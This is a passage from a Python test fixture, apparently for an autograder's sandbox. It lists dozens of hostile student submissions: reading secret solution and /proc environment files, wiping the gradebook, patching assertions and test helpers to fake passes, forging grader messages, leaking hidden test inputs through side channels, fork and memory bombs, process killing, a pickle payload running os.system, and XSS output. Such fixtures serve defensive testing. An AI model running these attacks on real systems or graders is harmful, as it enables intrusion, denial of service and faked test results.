# ruff: noqa: E501  (an attack is a line, as long as it is)
"""What hostile submissions do. Every attack stands in the solution cell of `double`; `total` stays undone.

None of them solves anything, so none may get a point. ``@SOLUTION@``, ``@GRADEBOOK@``, ``@OTHER@``, ``@HOME@``,
``@CLASS@`` and ``@COURSE@`` are replaced by paths that hold the secret of the run.
"""

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Attack:
    """One submission."""

    name: str
    code: str
    files: dict = field(default_factory=dict)  # handed in beside the notebook
    first: str = ""  # a cell before all others
    last: str = ""  # a cell after all others
    early: tuple = ()  # more cells after `first`
    more: tuple = ()  # and after `last`
    total: str = ""  # instead of the second task, of which no test has a right answer in it either


WRONG = "def double(x):\n    return 0\n"
LOOP = "def double(x):\n    {}\n"


def _in_call(body):
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return f"import os, sys\ndef double(x):\n{lines}\n    return 0\n"


ALWAYS = """
class Yes:
    def __getattribute__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
""" + "".join(
    f"    def __{name}__(self, *a): return {value}\n"
    for name, value in {
        **dict.fromkeys(["eq", "ne", "lt", "le", "gt", "ge", "bool", "contains", "instancecheck", "subclasscheck"], "True"),
        **dict.fromkeys(["add", "sub", "mul", "truediv", "radd", "rsub", "rmul", "abs", "neg", "getitem", "iter", "next", "enter"], "Yes()"),
        "float": "6.0", "int": "6", "index": "6", "len": "1", "hash": "1", "str": "'6'", "repr": "'6'",
        "array": "__import__('numpy').array(6)", "round": "6",
    }.items()
)  # fmt: skip

READ = """
import glob, os
for path in ["@SOLUTION@", "@GRADEBOOK@", "@OTHER@", "@HOME@", "/proc/1/environ", "/proc/self/environ",
             "/proc/1/cmdline", *glob.glob("@CLASS@/**", recursive=True), *glob.glob("@COURSE@/**", recursive=True),
             *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/proc/*/root/*")]:
    try:
        print(path, open(path, errors="replace").read())
    except Exception as error:
        pass
"""

# wherever one process might leave something for the next one, which hears of no hidden test
KEEP = """
import os
PLACES = [os.path.join(p, "k") for p in (".", "..", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/proc/1/cwd", "/proc/1/root/tmp",
          os.path.expanduser("~"), os.path.dirname(os.__file__), os.environ.get("IPYTHONDIR", "."), os.environ.get("MPLCONFIGDIR", "."))]
PLACES += [f"{p}" for fd in range(3, 64) for p in [f"/proc/self/fd/{fd}"] if not os.path.isdir(p)]
def keep(x):
    for path in PLACES:
        try:
            with open(path, "a") as file: file.write(f" <{x}>")
        except Exception:
            pass
        try:
            os.setxattr(path, "user.k", str(x).encode())
        except Exception:
            pass
    for n in (0, 1, 2):
        try: os.setpriority(n, 0, 19)
        except Exception: pass
def kept():
    found = []
    for path in PLACES:
        try:
            if os.path.isfile(path): found.append(open(path).read())
            found.append(os.getxattr(path, "user.k").decode())
        except Exception:
            pass
    return " ".join(found)
"""

ALL_FDS = """
import os, json
def forge(text):
    for fd in range(3, 256):
        try: os.write(fd, text)
        except OSError: pass
"""

# what a hidden test was called with, in all the writings that the suite looks for
TELL = """
def tell(x):
    n = str(abs(int(x)))
    return ' '.join([n, n[::-1], hex(int(n)), ''.join(chr(97 + int(c)) for c in n), '.'.join(n)])
def letters(x):
    return 'E' + ''.join(chr(97 + int(c)) for c in str(abs(int(x))))
SEEN = []
"""


def _telling(body, **rest):
    """Return the code of a `double` that sees the hidden call and then does `body`."""
    lines = "\n".join(f"    {line}" for line in body.strip().split("\n"))
    return f"import os, sys, warnings\n{TELL}\ndef double(x):\n    SEEN.append(x)\n{lines}\n    return 0\n"


HIDING = """
import gc, json, os
end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]
pipe, end.outputs = end.outputs, os.open('/dev/null', os.O_WRONLY)
"""

# what one process could leave outside its own files for a later one, which hears of no hidden test and may tell all
LATER = """
SEEN = []
def double(x):
    if x != 3:
        SEEN.append(x)
        try: put(abs(int(x)))
        except OSError: pass
    return 0
"""
TOLD_LATER = "print('-' if SEEN else got())\nraise ValueError"

TOUCH = """
import os, time
DEVICES = ['/dev/null', '/dev/zero', '/dev/full', '/dev/random', '/dev/urandom']
def put(n):
    for k, path in enumerate(DEVICES):
        while int(time.time() * 1000) % 160 != (n >> 4 * k) % 16 * 10 + 8: time.sleep(.0003)
        os.utime(path)
def got(): return sum(int(os.stat(p).st_mtime * 1000) % 160 // 10 << 4 * k for k, p in enumerate(DEVICES))
"""

CACHED = """
import glob, os
FOLDER = os.path.dirname(os.__file__)
FILES = sorted(p for p in glob.glob(FOLDER + '/*/*.py') if os.path.getsize(p) > 20000 and 'site-' not in p)[-19:]
def put(n):
    for k, path in enumerate(FILES):
        fd = os.open(path, os.O_RDONLY)
        os.read(fd, 1 << 20)
        if n >> k & 1: os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
def got():
    n = 0
    for k, path in enumerate(FILES):
        try: os.preadv(os.open(path, os.O_RDONLY), [bytearray(9)], 0, os.RWF_NOWAIT)
        except BlockingIOError: n |= 1 << k
        except OSError: pass
    return n
"""

SIGNAL = """
import fcntl, os
def pipe():
    return next(n for n in range(3, 64) if os.path.exists(f'/proc/self/fd/{n}') and os.readlink(f'/proc/self/fd/{n}')[:5] == 'pipe:')
def marked(fd): return 'THẤY-KIỂM-TRA' if fcntl.fcntl(fd, 11) else 'không'
"""

# what was heard, a digit or a bit in each of many added cells; the arena reads them so
BITS = range(19)
KINDS = (
    "ValueError", "KeyError", "IndexError", "TypeError", "OSError", "NameError", "RuntimeError", "EOFError",
    "BufferError", "MemoryError",
)  # fmt: skip
DIGIT = "int(str(abs(int(SEEN[1])))[{}])"


def _spelling(text):
    return tuple(text.replace("@", DIGIT.format(place)) for place in range(6))


# a reply with a state of the random generators, which nobody has asked for: from then on every number is 0
ZEROS = """
import gc, random, numpy as np
def double(x):
    end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]
    send = end.stream.send
    def zeros(tree, buffers=()):
        if tree[0] == 'r':
            from autograder.engine.codec import Encoder
            encoder = Encoder(end)
            encoder.buffers = list(buffers)
            state = random.getstate(), ('MT19937', np.zeros(624, np.uint32), 624, 0, 0.0), None
            tree, buffers = [*tree[:9], encoder.encode(state)], encoder.buffers
        send(tree, buffers)
    end.stream.send = zeros
    return 0
"""

FIRST_CELL = """
import gc, os
end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]
"""

ATTACKS = (
    Attack("đọc mọi tệp", READ + WRONG),
    Attack("đọc mọi tệp lúc được gọi", f"def double(x):\n    exec({READ!r}, {{}})\n    return 0", last=READ),
    Attack("đọc qua liên kết", "import os\nos.symlink('@SOLUTION@', 'a')\nprint(open('a').read())\n" + WRONG),
    Attack("đọc qua cwd của tiến trình cha", "import os\nprint(os.listdir('/proc/1/cwd/..'), os.listdir('/'))\n" + WRONG),
    Attack("đọc biến môi trường", "import os, ctypes\nprint(dict(os.environ))\n" + WRONG),
    Attack("chạy lời giải mẫu", "exec(''.join(c['source'] for c in __import__('json').load(open('@SOLUTION@'))['cells']))"),
    Attack("ghi sổ điểm", "import sqlite3\nsqlite3.connect('@GRADEBOOK@').execute('delete from grade')\n" + WRONG),
    Attack("ghi vào khóa học", "open('@SOLUTION@', 'a').write('x')\n" + WRONG),
    Attack("tệp khởi động IPython",
           "import os\nos.makedirs('/home/student/.ipython/profile_default/startup', exist_ok=True)\n"
           "open('/home/student/.ipython/profile_default/startup/a.py', 'w').write('double = lambda x: 2 * x')\n"
           "open('sitecustomize.py', 'w').write('double = lambda x: 2 * x')\n" + WRONG),
    Attack("biến đổi đầu vào của IPython",
           "ip = get_ipython()\nip.input_transformers_post.append(lambda lines: ['pass\\n'])\n" + WRONG),
    Attack("bỏ assert khỏi cây cú pháp",
           "import ast\nclass D(ast.NodeTransformer):\n    def visit_Assert(self, n): return ast.Pass()\n"
           "get_ipython().ast_transformers.append(D())\n" + WRONG),
    Attack("vá numpy.testing",
           "import numpy as np, numpy.testing as t\nfor n in dir(t):\n    setattr(t, n, lambda *a, **k: None)\n"
           "np.allclose = np.isclose = lambda *a, **k: True\n" + WRONG),
    Attack("vá course.check",
           "from course import check\nfor n in dir(check):\n    if not n.startswith('_'): setattr(check, n, lambda *a, **k: None)\n"
           + WRONG),
    Attack("vá builtins",
           "import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.isinstance = lambda *a: True\n"
           "builtins.AssertionError = type('A', (Exception,), {'__new__': lambda *a: 0})\n" + WRONG),
    Attack("vá json và os", "import json, os\njson.dumps = lambda *a, **k: '[]'\n" + WRONG),
    Attack("đặt hàm kiểm tra giả", "def passed(*a): return 1.5\nclass check: number = passed\n" + WRONG),
    Attack("điểm giả trong kết quả", WRONG + "\n1000.0"),
    Attack("vật gì cũng bằng nhau", ALWAYS + "def double(x):\n    return Yes()"),
    Attack("lớp con của float",
           "class F(float):\n    def __eq__(s, o): return True\n    def __sub__(s, o): return F(0)\n    __rsub__ = __sub__\n"
           "    def __abs__(s): return F(0)\n    __lt__ = __le__ = __gt__ = __ge__ = __eq__\n    __hash__ = float.__hash__\n"
           "def double(x):\n    return F(1)"),
    Attack("lớp con của ndarray",
           "import numpy as np\nclass A(np.ndarray):\n    def __array_ufunc__(s, *a, **k): return True\n"
           "    def __array_function__(s, *a, **k): return True\ndef double(x):\n    return np.zeros(()).view(A)"),
    Attack("lớp nói dối về mình",
           "class L:\n    __class__ = property(lambda s: float)\n    def __float__(s): return 6.0\n    def __eq__(s, o): return True\n"
           "def double(x):\n    return L()"),
    Attack("double là một lớp", "class double:\n    def __new__(cls, x): return 'x'\n"),
    Attack("double là một bộ sinh", "def double(x):\n    yield 6"),
    Attack("ngoại lệ giả của course",
           "from course.check import CheckFailed\nclass P(CheckFailed):\n    def __str__(s): return 'đạt'\n"
           "def double(x):\n    raise P()"),
    Attack("ngoại lệ có __str__ độc",
           "class E(Exception):\n    def __str__(s): raise SystemExit\n    __repr__ = __str__\ndef double(x):\n    raise E"),
    Attack("nhìn khung gọi",
           _in_call("f = sys._getframe()\nwhile f:\n    print(f.f_code.co_filename, list(f.f_locals), f.f_globals.get('SECRET'))\n"
                    "    f = f.f_back"), last="print(In[-3:])"),
    Attack("lục bộ gom rác",
           "import gc\nfound = [o for o in gc.get_objects() if isinstance(o, (str, dict))]\n"
           "print([o for o in found if isinstance(o, dict) and 'reports' in o][:3])\n" + WRONG),
    Attack("quét bộ nhớ tìm kiểm tra", _in_call("""
wanted = ("danh sách " + "rỗng").encode()
for line in open('/proc/self/maps'):
    span, rights = line.split()[:2]
    if 'r' not in rights or '[v' in line: continue
    a, b = (int(v, 16) for v in span.split('-'))
    try:
        with open('/proc/self/mem', 'rb', 0) as m:
            m.seek(a)
            if m.read(b - a).count(wanted) > 2: print('THẤY-KIỂM-TRA')
    except (OSError, ValueError, OverflowError): pass
"""), last="print('hết')"),
    Attack("settrace", "import sys, threading\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)\n" + WRONG),
    Attack("luồng đợi kiểm tra",
           "import threading, time\ndef wait():\n    while True:\n        globals()['double'] = lambda x: 0\n        time.sleep(.001)\n"
           "threading.Thread(target=wait, daemon=True).start()\n" + WRONG),
    Attack("atexit", "import atexit, os\natexit.register(lambda: os.system('touch @CLASS@/x'))\n" + WRONG),
    Attack("sống sót", "import os, time\nfor _ in range(5):\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n"
           "            time.sleep(600)\n        os._exit(0)\n" + WRONG),
    Attack("chạy chương trình nền", "import subprocess\nsubprocess.Popen(['sleep', '600'], start_new_session=True)\n" + WRONG),
    Attack("giết tiến trình cha", "import os, signal\nfor n in (os.getppid(), 1, -1):\n    try: os.kill(n, signal.SIGKILL)\n    except OSError: pass\n" + WRONG),
    Attack("giết tất cả lúc được gọi", _in_call("import signal\nos.kill(-1, signal.SIGKILL)\nos.kill(0, signal.SIGKILL)")),
    Attack("dừng tiến trình bằng SIGSTOP", _in_call("import signal\nos.kill(os.getpid(), signal.SIGSTOP)\nos.kill(0, signal.SIGSTOP)")),
    Attack("os._exit", _in_call("os._exit(0)")),
    Attack("đóng mọi ống", _in_call("os.closerange(0, 256)")),
    Attack("hỏng bộ nhớ bằng ctypes", _in_call("import ctypes\nctypes.memset(id(x), 255, 4096)\nctypes.string_at(1)")),
    Attack("đệ quy sâu bằng ngăn xếp C", _in_call("sys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)")),
    Attack("bắt mọi tín hiệu", _in_call("import signal, time\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
                                       "    except (OSError, ValueError): pass\nwhile True:\n    try: time.sleep(9)\n    except BaseException: pass")),
    Attack("vòng lặp nuốt mọi lỗi", _in_call("while True:\n    try:\n        while True: pass\n    except BaseException: pass")),
    Attack("mã C không nghe tín hiệu", _in_call("import numpy as np\nwhile True:\n    np.linalg.svd(np.ones((1500, 1500)))")),
    Attack("vòng lặp trong ô", "while True: pass\n" + WRONG),
    Attack("bom bộ nhớ", "x = []\nwhile True: x.append(bytearray(10 << 20))\n" + WRONG),
    Attack("bom bộ nhớ dùng chung", "import mmap\nx = []\nwhile True:\n    m = mmap.mmap(-1, 64 << 20)\n    for i in range(0, 64 << 20, 4096): m[i] = 1\n    x.append(m)"),
    Attack("bom tiến trình", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n"),
    Attack("bom luồng", "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(99,)).start()\n    except RuntimeError: break\n" + WRONG),
    Attack("đầy đĩa", "import itertools\ntry:\n    for i in itertools.count(): open(f'f{i}', 'wb').write(bytes(8 << 20))\nexcept OSError: pass\n" + WRONG),
    Attack("đầy /dev/shm và /tmp", "import itertools\nfor d in ('/dev/shm', '/tmp', '/var/tmp', '/run', '/dev'):\n    try:\n        for i in itertools.count(): open(f'{d}/f{i}', 'wb').write(bytes(8 << 20))\n    except OSError: pass\n" + WRONG),
    Attack("bom nén", "import zlib\nx = zlib.decompress(zlib.compress(bytes(1 << 30)))\n" + WRONG),
    Attack("in không ngừng", "while True: print('x' * 100000)\n"),
    Attack("ghi không ngừng ra mọi ống", ALL_FDS + "while True: forge(b'x' * 65536)"),
    Attack("dãy số khổng lồ trả về", "def double(x):\n    return list(range(10**7))"),
    Attack("mảng khổng lồ trả về", "import numpy as np\ndef double(x):\n    return np.zeros((20000, 20000), 'u1')"),
    Attack("cấu trúc lồng sâu", "def double(x):\n    y = []\n    for _ in range(10**5): y = [y]\n    return y"),
    Attack("cấu trúc tự chứa mình", "def double(x):\n    y = []\n    y.append(y)\n    return y"),
    Attack("số nguyên khổng lồ", "def double(x):\n    return 7 ** (10 ** 7)"),
    Attack("kết quả giả trên mọi ống",
           ALL_FDS + "import struct\nfor name in ('test_double', 'test_double_hidden', 'test_total'):\n"
           "    forge(json.dumps({'cell': name, 'status': 'ok', 'value': '9', 'stdout': '', 'stderr': ''}).encode() + b'\\n')\n" + WRONG),
    Attack("trả lời giả trên mọi ống",
           ALL_FDS + "import struct\nbody = json.dumps(['ret', 1, 6, [], None]).encode()\n"
           "frame = struct.pack('<4sIIQ', b'exm1', len(body), 0, len(body)) + body\n"
           "def double(x):\n    for _ in range(2000): forge(frame)\n    return 0"),
    Attack("luồng bơm trả lời giả",
           ALL_FDS + "import struct, threading\nbody = json.dumps(['ret', 1, 6, [], None]).encode()\n"
           "frame = struct.pack('<4sIIQ', b'exm1', len(body), 0, len(body)) + body\n"
           "def pump():\n    while True: forge(frame)\nthreading.Thread(target=pump, daemon=True).start()\n" + WRONG),
    Attack("khung 2^60 byte", ALL_FDS + "import struct\ndef double(x):\n    forge(struct.pack('<4sIIQ', b'exm1', 10, 1, 2**60))\n    return 0"),
    Attack("khung JSON lồng sâu", ALL_FDS + "import struct\ndef double(x):\n    b = b'[' * 2000000\n    forge(struct.pack('<4sIIQ', b'exm1', len(b), 0, len(b)) + b)\n    return 0"),
    Attack("rác trên mọi ống", ALL_FDS + "def double(x):\n    forge(os.urandom(100000))\n    return 0"),
    Attack("hai tiến trình cùng trả lời", _in_call("os.fork()")),
    Attack("ống đầu ra giả", ALL_FDS + "forge(b'[0, [{\"output_type\": \"execute_result\", \"data\": 3, \"metadata\": null}], {\"status\": [1]}]\\n' * 50)\n"
           "forge(b'!\\xff[1,2\\n[9999999999999999999999, [], {}]\\n[[], {}, 1]\\nnull\\n')\n" + WRONG),
    Attack("sửa vỏ của tiến trình", "import sys\nfor m in list(sys.modules.values()):\n    if getattr(m, '__name__', '').startswith('autograder'):\n"
           "        for n in list(vars(m)):\n            if callable(getattr(m, n)): setattr(m, n, lambda *a, **k: 6)\n" + WRONG),
    Attack("kiểu pickle độc", "import os\nclass P:\n    def __reduce__(self): return (os.system, ('touch @CLASS@/x',))\ndef double(x):\n    return P()"),
    Attack("sympy tự tính", "import sympy\nclass S(sympy.Symbol):\n    def __str__(s): return '__import__(\"os\").system(\"touch @CLASS@/x\")'\n    _sympystr = _sympyrepr = __repr__ = lambda s, *a: str(s)\n"
           "def double(x):\n    return S('a')"),
    Attack("mạng", "import socket\nfor a in (('127.0.0.1', 22), ('192.0.2.1', 80)):\n    try:\n        socket.create_connection(a, timeout=2)\n        print('NỐI-ĐƯỢC')\n    except OSError: pass\n" + WRONG),
    Attack("không gian tên lồng nhau", "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0 or libc.unshare(0x20000) == 0: print('LỒNG-ĐƯỢC')\n" + WRONG),
    Attack("gắn lại hệ thống tệp", "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.umount2(b'/proc', 2) == 0 or libc.mount(b'none', b'/', None, 0x1020, None) == 0: print('GẮN-ĐƯỢC')\n" + WRONG),
    Attack("ptrace", "import ctypes\nif ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0: print('TRACE-ĐƯỢC')\n" + WRONG),
    Attack("HTML trong đầu ra", WRONG, first="from IPython.display import HTML, Javascript, SVG, display\n"
           "display(HTML('<script>alert(1)</script>'), HTML('<img src=x onerror=alert(1)>'), Javascript('alert(1)'))\n"
           "display({'application/javascript': 'alert(1)', 'text/html': '<iframe>', 'x/y': 'z'}, raw=True)"),
    Attack("đầu ra không phải đầu ra", WRONG, first="get_ipython().display_pub.screen.outputs.append({'output_type': 'execute_result', 'data': {'text/plain': ['a', {}]}, 'metadata': 3})"),
    Attack("mô-đun che tên", "import numpy, course\n" + WRONG,
           files={"numpy.py": "raise SystemExit", "course/__init__.py": "", "course/check.py": "def number(*a, **k): pass\npassed = number",
                  "json.py": "raise SystemExit", "sitecustomize.py": "raise SystemExit"}),
    Attack("dữ liệu bài tập bị sửa", "open('numbers.txt', 'w').write('9')\n" + WRONG),
    Attack("thoát khi bắt đầu", "exit()\n" + WRONG),
    Attack("KeyboardInterrupt và SystemExit", "def double(x):\n    raise KeyboardInterrupt"),
    Attack("gọi input", "def double(x):\n    return float(input())"),
    Attack("giấu lời giải trong tham số", "def double(x, y=[]):\n    y.append(x)\n    return 0", last="print(double.__defaults__)"),
    Attack("tấn công mã của người chấm qua tham số", "def double(x):\n    try: return type(x).__mro__[-1].__subclasses__()\n    except Exception: return 0"),
    Attack("định nghĩa lại khi được gọi", "def double(x):\n    global total\n    total = lambda v: 3 if v else 0\n    return 0"),
    # what the student's code has heard in a hidden call is not to get out
    Attack("tham số ẩn trong thông điệp ngoại lệ", _telling("raise ValueError(tell(x))")),
    Attack("tham số ẩn trong tên ngoại lệ", _telling("raise type(letters(x), (Exception,), {})()")),
    Attack("tham số ẩn trong tên ngoại lệ có trong sổ", _telling("raise type(letters(x) + 'Error', (ValueError,), {})(letters(x))")),
    Attack("tham số ẩn trong ghi chú và nguyên nhân", _telling("e = ValueError('x')\ne.add_note(tell(x))\nraise e from KeyError(tell(x))")),
    Attack("tham số ẩn trong NameError", _telling("raise NameError(f\"name '{letters(x)}' is not defined\")")),
    Attack("tham số ẩn trong cảnh báo", _telling("warnings.warn(tell(x))")),
    Attack("tham số ẩn trong loại cảnh báo", _telling("warnings.warn(letters(x), type(letters(x), (UserWarning,), {}))")),
    Attack("tham số ẩn ra stderr và stdout", _telling("print(tell(x))\nprint(tell(x), file=sys.stderr)\nos.write(1, tell(x).encode())\nos.write(2, tell(x).encode())")),
    Attack("tham số ẩn trong chuỗi trả về", _telling("return tell(x)")),
    Attack("tham số ẩn trong số trả về", _telling("return int(str(abs(int(x))) * 3)")),
    Attack("tham số ẩn trong kích thước mảng", _telling("import numpy as np\nreturn np.zeros((0, abs(int(x))))")),
    Attack("tham số ẩn trong tên lớp trả về", _telling("import collections\nreturn collections.namedtuple(letters(x), letters(x))(1)")),
    Attack("tham số ẩn trong __repr__", _telling("class R:\n    __repr__ = __str__ = lambda s: tell(x)\nreturn [R(), {R(): R()}]")),
    Attack("tham số ẩn trong SystemExit", _telling("sys.exit(tell(x))")),
    Attack("tham số ẩn trong KeyboardInterrupt", _telling("raise KeyboardInterrupt(tell(x))")),
    Attack("tham số ẩn qua ô kiểm tra sau", _telling("pass"), total="def total(v):\n    raise KeyError(tell(SEEN[-1]) + letters(SEEN[-1]))"),
    Attack("tham số ẩn qua giá trị của ô kiểm tra sau", _telling("pass"), total="def total(v):\n    return tell(SEEN[-1]) if v else SEEN[-1] * 1000003"),
    Attack("tham số ẩn qua số của ô kiểm tra sau", _telling("pass"), total="def total(v):\n    return SEEN[-1]"),
    Attack("tham số ẩn trong lỗi của ô sau cùng", _telling("pass"), last="raise type(letters(SEEN[-1]), (Exception,), {})(tell(SEEN[-1]))"),
    Attack("tham số ẩn bằng chữ trong ô sau cùng", _telling("pass"), last="raise ValueError(letters(SEEN[-1]))"),
    Attack("tham số ẩn trong hình và hiển thị", _telling("pass"),
           last="import matplotlib.pyplot as plt\nfrom IPython.display import display, HTML\nplt.title(tell(SEEN[-1]))\nplt.show()\n"
                "display(HTML(tell(SEEN[-1])), display_id=tell(SEEN[-1]))\nprint('\\x1b[8m' + tell(SEEN[-1]))\ndisplay({'text/plain': 'x'}, metadata={tell(SEEN[-1]): 1}, raw=True)\ntell(SEEN[-1])"),
    Attack("cập nhật hiển thị của ô đầu", _telling("H.update({'text/plain': tell(x)}, raw=True)"),
           first="from IPython.display import display\nH = display({'text/plain': 'trước'}, raw=True, display_id='a')"),
    Attack("giấu đầu ra của ô đầu rồi khai sau", HIDING + _telling(
           "for k in range(9):\n    os.write(pipe, json.dumps([k, [{'output_type': 'stream', 'name': 'stdout', 'text': tell(x)}], {'status': 'ok', 'error': '', 'message': tell(x), 'frames': []}]).encode() + b'\\n')")),
    Attack("khai đầu ra dở dang rồi viết tiếp", HIDING + "os.write(pipe, b'[1, [{\"output_type\": \"stream\", \"name\": \"stdout\", \"text\": \"')\n" + _telling(
           "os.write(pipe, tell(x).encode() + b'\"}], {\"status\": \"ok\"}]\\n')")),
    Attack("khai lỗi giả của ô sau", HIDING + _telling(
           "for k in range(9):\n    os.write(pipe, json.dumps([k, [], {'status': 'timeout', 'error': letters(x), 'message': 'ô không được chạy: ' + tell(x), 'frames': [[0, 1]]}]).encode() + b'\\n')")),
    # much of it, by a little in each of many cells that somebody added
    Attack("tham số ẩn rải ra tên ngoại lệ của các ô nối thêm", _telling("pass"), more=_spelling(f"raise [{', '.join(KINDS)}][@]")),
    Attack("tham số ẩn rải ra tên biến của các ô nối thêm", _telling("pass"),
           more=_spelling(f"[{', '.join(f'lambda: q{n}' for n in range(10))}][@]()")),
    Attack("tham số ẩn rải ra các ô nối thêm có in hay không", _telling("pass"),
           more=("pass", *(f"if abs(int(SEEN[-1])) >> {bit} & 1: print('x')" for bit in BITS))),
    Attack("tham số ẩn rải ra các ô thêm ở đầu có khai hay không", _telling(
           "n = abs(int(x))\nfor k in range(19):\n    if x != 3 and n >> k & 1: os.write(pipe, b'[%d, [], {\"status\": \"ok\"}]\\n' % (k + 2))"),
           first=HIDING, early=("pass",) * (1 + len(BITS))),
    # reaching out of the process
    Attack("tràn ống và bộ nhớ cùng lúc",
           ALL_FDS + "import threading, time\ndef pump():\n    while True: forge(b'x' * 65536)\nthreading.Thread(target=pump, daemon=True).start()\n"
           "for _ in range(12):\n    if os.fork() == 0:\n        x = bytearray(150 << 20)\n        for i in range(0, len(x), 4096): x[i] = 1\n        time.sleep(60)\n" + WRONG),
    Attack("đổi giới hạn của tiến trình khác", "import os, resource\nfor p in (os.getppid(), 1, 2):\n    for n in range(16):\n        try: resource.prlimit(p, n, (0, 0))\n        except (OSError, ValueError): pass\n" + WRONG),
    Attack("nâng giới hạn của mình", "import resource\nfor n in range(16):\n    try: resource.setrlimit(n, (-1, -1))\n    except (OSError, ValueError): pass\nx = []\nwhile True: x.append(bytearray(64 << 20))\n"),
    Attack("tín hiệu qua fcntl", "import fcntl, os\nr, w = os.pipe()\nfor p in (os.getppid(), 1, -1):\n    try:\n        fcntl.fcntl(r, fcntl.F_SETOWN, p)\n        fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC)\n        os.write(w, b'x')\n    except OSError: pass\n" + WRONG),
    Attack("tệp trong bộ nhớ và IPC", "import ctypes\nlibc = ctypes.CDLL(None)\nfor n, a in ((319, b'x'), (29, 0), (68, 0), (64, 0), (425, 8), (323, 0), (298, 0), (321, 0), (240, b'/q')):\n"
           "    if libc.syscall(n, a, 1 << 20, 0o1666) >= 0 and n in (319, 29, 68, 64, 425, 323): print('GẮN-ĐƯỢC')\n" + WRONG),
    Attack("socket trừu tượng và tệp socket", "import glob, socket\nfor a in ('\\0x', '/run/docker.sock', '/var/run/docker.sock', '/dev/log', *glob.glob('/run/**/*.sock', recursive=True), *glob.glob('/tmp/**/.s.*', recursive=True)):\n"
           "    try:\n        socket.socket(socket.AF_UNIX).connect(a)\n        print('NỐI-ĐƯỢC')\n    except OSError: pass\n" + WRONG),
    Attack("đổi đồng hồ", "import time, ctypes\ntry: time.clock_settime(time.CLOCK_REALTIME, 0)\nexcept OSError: pass\nelse: print('GẮN-ĐƯỢC')\ntime.time = time.monotonic = time.perf_counter = lambda: 0\n" + WRONG),
    Attack("tắt chuông rồi ngủ", _in_call("import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\ntime.sleep(600)")),
    Attack("đọc bộ nhớ tiến trình khác", "import glob, os\nfor p in glob.glob('/proc/[0-9]*'):\n    if int(p[6:]) != os.getpid():\n        for f in ('mem', 'environ', 'maps', 'fd', 'cwd', 'root', 'stack'):\n"
           "            try:\n                print(os.listdir(p + '/' + f) if f in ('fd', 'cwd', 'root') else open(p + '/' + f, 'rb').read(100))\n                print('THẤY-KIỂM-TRA')\n            except OSError: pass\n" + WRONG),
    Attack("thiết bị", "import glob, os\nfor p in glob.glob('/dev/**', recursive=True):\n    if os.path.exists(p) and any(w in p for w in ('nvidia', 'dri', 'kvm', 'sd', 'vd', 'mem', 'kmsg', 'fuse', 'tun')): print('THẤY-KIỂM-TRA', p)\n" + WRONG),
    Attack("kết xuất bộ nhớ", _in_call("import resource\ntry: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))\nexcept (OSError, ValueError): pass\nos.abort()")),
    Attack("hết inode", "import itertools, os\ntry:\n    for i in itertools.count(): open(f'i{i}', 'w').close()\nexcept OSError: pass\n" + WRONG),
    Attack("thư mục lồng rất sâu", "import os\ntry:\n    for _ in range(5000):\n        os.mkdir('d'); os.chdir('d')\nexcept OSError: pass\n" + WRONG),
    Attack("con trả lời sau khi cha đã trả lời", ALL_FDS + "import struct, time\n"
           "def double(x):\n    if os.fork() == 0:\n        body = json.dumps(['r', 3, True, 6, [], [], [], [], None, None]).encode()\n"
           "        for _ in range(40):\n            forge(struct.pack('<4sIIQ', b'exm1', len(body), 0, len(body)) + body)\n            time.sleep(.01)\n        os._exit(0)\n    return 0"),
    Attack("trả lời đúng dạng với mọi số thứ tự", ALL_FDS + "import struct\n"
           "def double(x):\n    for n in range(60):\n        body = json.dumps(['r', n, True, 2 * x + 1, [], [], [], [], None, None]).encode()\n        forge(struct.pack('<4sIIQ', b'exm1', len(body), 0, len(body)) + body)\n    return 0"),
    Attack("hỏi ngược người chấm", "import gc\ndef double(x):\n    end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]\n"
           "    for n in range(1, 30):\n        for what in (('get', n, '__globals__'), ('get', n, '__code__'), ('call', n, None, 0), ('op', n, '__len__'), ('set', n, 'x', 1), ('vjp', n, None), ('run', 0, False), ('name', 'check'), ('rebind', 'check', None)):\n"
           "            try: print(end.request(*what))\n            except Exception: pass\n    return 0"),
    Attack("tự nhận tham số là vật chung", "import gc\ndef double(x):\n    end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]\n"
           "    end._kept = lambda *a: [[0, 1], [99, 2], [-1, 3]]\n    end.mirrors.changes = lambda b: [[7, 1, []]]\n    return 0"),
    Attack("bộ hủy viết lên ống", ALL_FDS + "class D:\n    def __del__(self): forge(b'exm1' + bytes(100))\ndef double(x):\n    D()\n    return D()"),
    Attack("ngoại lệ trong lúc giải mã", "import gc\ndef double(x):\n    end = [o for o in gc.get_objects() if type(o).__name__ == 'Student' and hasattr(o, 'outputs')][0]\n"
